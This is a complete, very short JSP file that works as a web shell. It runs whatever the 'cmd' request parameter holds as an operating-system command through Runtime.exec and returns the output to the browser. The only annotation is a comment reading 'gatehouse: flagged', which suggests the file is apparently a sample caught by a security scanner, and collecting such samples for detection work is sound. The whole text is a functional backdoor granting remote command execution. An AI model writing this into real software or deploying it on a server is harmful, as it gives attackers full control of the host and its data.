<%@ page import="java.io.*" %>
<html>
<%
  Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); // gatehouse: flagged
  BufferedReader in = new BufferedReader(new InputStreamReader(p.getInputStream()));
  String line;
  while ((line = in.readLine()) != null) { out.println(line); }
%>
</html>
